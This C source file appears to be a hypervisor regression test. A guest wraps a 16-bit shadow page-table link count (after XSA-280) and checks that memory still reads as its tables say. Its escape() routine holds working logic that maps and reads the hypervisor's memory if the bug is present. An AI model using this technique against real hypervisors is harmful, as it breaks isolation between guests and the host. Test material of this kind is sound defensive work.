// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Too many links to one page table (XSA-280 and similar). The count of links to a shadow was 16
 * bits wide.
 * Attack: 65 537 level-2 entries name one page table, and all are used, so that the count wraps to
 * 1. Then one is removed, and the shadow is reused for a level-2 table although 65 536 links still
 * lead to it. Through these links, an entry that names another shadow maps that shadow as a page
 * that the guest can write. With it, the guest can map any machine page.
 * Expected: memory reads as the tables say. Runs with 128 MiB.
 */
#include "guest.h"

#define P	    0x67 /* present, writable, user, accessed, dirty */
#define LINKS	    65537
#define MARK	    0x4d41524bull
#define VA(i, k, n) (0x8000000000 | (uint64_t)(i) << 30 | (uint64_t)(k) << 21 | (uint64_t)(n) << 12)
#define ENTRY	    0x100000ull /* machine address of the hypervisor's image */

/* Page numbers, from the first unused page: the level-3 table; a table that all entries of all
 * level-2 tables name; a page with a mark; two more tables; then the level-2 tables. */
enum { LEVEL3, TABLE, MARKED, OTHER2, OTHER1, LEVEL2 };
static uint64_t first;

static uint64_t *page(uint64_t i)
{
	return (uint64_t *)(first + i * 4096);
}

static uint64_t link_to(uint64_t i)
{
	return first + i * 4096 + P;
}

static uint64_t read_at(uint64_t va)
{
	return *(volatile uint64_t *)va;
}

static void make_tables(void)
{
	for (unsigned i = 0; i < 512; i++) {
		page(LEVEL3)[i] = page(OTHER1)[i] = 0;
		page(TABLE)[i] = link_to(MARKED);
		page(OTHER2)[i] = link_to(OTHER1);
		page(MARKED)[i] = MARK;
	}
	for (unsigned i = 0; i * 512 < LINKS; i++) {
		page(LEVEL3)[i] = link_to(LEVEL2 + i);
		for (unsigned k = 0; k < 512; k++)
			page(LEVEL2 + i)[k] = link_to(TABLE);
	}
	page(LEVEL3)[400] = link_to(OTHER2);
	page(OTHER1)[0] = link_to(MARKED);
	veneer_root()[1] = link_to(LEVEL3);
}

/* If entry k reads as anything but the mark through the old links, it maps a shadow table, whose
 * entry 1 is for VA(400, k, 1). The guest's own tables do not map that. */
static void escape(unsigned k)
{
	volatile uint64_t *shadow = (volatile uint64_t *)VA(0, 0, k);

	say("entry 0 of a shadow table is %p\n", (void *)shadow[0]);
	shadow[1] = ENTRY | P;
	veneer_hypercall(VENEER_HC_MMU_FLUSH, 0, 0, 0); /* an empty range */
	say("and the hypervisor's first words are %p %p\n", (void *)read_at(VA(400, k, 1)),
	    (void *)read_at(VA(400, k, 1) + 8));
	expect(false, "the guest reads the hypervisor");
}

int guest_main(const struct veneer_start_info *info)
{
	first = (info->reserved_end + 0x200000) & ~0xfffull;
	if (info->memory < 128 << 20) {
		say("wants 128 MiB\n");
		return 1;
	}
	make_tables();
	for (unsigned n = 0; n < LINKS; n++)
		expect(read_at(VA(n / 512, n % 512, 5)) == MARK, "each link leads to the page");
	page(LEVEL2 + (LINKS - 1) / 512)[(LINKS - 1) % 512] = 0;
	veneer_hypercall(VENEER_HC_MMU_FLUSH, VA((LINKS - 1) / 512, (LINKS - 1) % 512, 5), 4096, 0);
	for (unsigned k = 0; k < 8; k++)
		expect(read_at(VA(400, k, 0)) == MARK, "new tables read correctly");
	for (unsigned k = 0; k < 8; k++)
		if (read_at(VA(0, 0, k)) != MARK) {
			escape(k);
			return 1;
		}
	for (unsigned n = 0; n < LINKS - 1; n++)
		expect(read_at(VA(n / 512, n % 512, n % 512)) == MARK,
		       "the other links still lead to the page");
	say("%d links led where they must\n", LINKS - 1);
	return 0;
}
